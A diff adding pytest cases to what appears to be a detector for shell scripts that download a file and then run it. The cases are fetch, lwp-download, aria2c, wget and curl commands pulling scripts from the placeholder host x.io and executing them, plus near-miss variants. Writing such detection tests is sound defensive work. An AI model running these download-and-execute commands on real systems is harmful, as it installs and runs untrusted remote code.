@@ -91,6 +91,51 @@ def test_other_tools_near_misses(repo: GitRepo, source: str) -> None:
 
 
 @pytest.mark.parametrize(
+    "command",
+    [
+        # FreeBSD fetch's `-o` and lwp-download's path, when a directory, keep the URL's last segment
+        "fetch -o /tmp/ https://x.io/i.sh && sh /tmp/i.sh",
+        "fetch -qo /opt/bin/ https://x.io/k; /opt/bin/k",
+        "fetch --output=/tmp/d/ https://x.io/i.sh; bash /tmp/d/i.sh",
+        "fetch -o . https://x.io/i.sh && sh ./i.sh",
+        "fetch -o /tmp https://x.io/i.sh && sh /tmp/i.sh",  # may be a directory
+        "fetch -o /tmp/i https://x.io/x && sh /tmp/i",  # or the file
+        "lwp-download https://x.io/i.sh /tmp/ && sh /tmp/i.sh",
+        "lwp-download https://x.io/i.sh /tmp && . /tmp/i.sh",
+        # aria2c's `-d`/`--dir` holds `-o`'s name, or the URL's last segment
+        "aria2c -d /tmp/x -o run.sh https://x.io/x; sh /tmp/x/run.sh",
+        "aria2c -o run.sh --dir /tmp/x/ https://x.io/x; sh /tmp/x/run.sh",
+        "aria2c -d/tmp/x -orun.sh https://x.io/x; sh /tmp/x/run.sh",
+        # the last of an option given twice is the one a tool keeps
+        "wget -P /srv -P /tmp https://x.io/i.sh; sh /tmp/i.sh",
+        "curl --output-dir /srv --output-dir /tmp -O https://x.io/i.sh; sh /tmp/i.sh",
+        "aria2c -d /srv -d /tmp https://x.io/i.sh; sh /tmp/i.sh",
+    ],
+)
+def test_downloads_into_a_directory_run(repo: GitRepo, command: str) -> None:
+    assert _found(repo, f"set -e\n{command}\n") == [(2, _PIPE)]
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "fetch -o /tmp/ https://x.io/i.sh\nsh /tmp/other.sh\n",
+        "fetch -o /tmp/d/ https://x.io/i.sh\nsh /tmp/d\n",  # a directory, not the file
+        "fetch -o /tmp/d/ https://x.io/i.sh\nsh i.sh\n",
+        "lwp-download https://x.io/i.sh /tmp/\nsh i.sh\n",
+        "aria2c -d /tmp/x -o run.sh https://x.io/x\nsh run.sh\n",
+        "aria2c -o run.sh -d /tmp/x https://x.io/x\nsh /tmp/run.sh\n",
+        "wget -P /tmp -P /srv https://x.io/i.sh\nsh /tmp/i.sh\n",
+        # HTTPie and xh open `-o`'s path as a file: a directory is an error, nothing is written in it
+        "http -d -o /tmp/ https://x.io/i.sh\nsh /tmp/i.sh\n",
+        "xh -d -o /tmp/ https://x.io/i.sh\nsh /tmp/i.sh\n",
+    ],
+)
+def test_downloads_into_a_directory_near_misses(repo: GitRepo, source: str) -> None:
+    assert _found(repo, source) == []
+
+
+@pytest.mark.parametrize(
     ("path", "source", "line"),
     [
         ("Dockerfile", "FROM alpine\nRUN fetch -o - https://x.io/i | sh\n", 2),
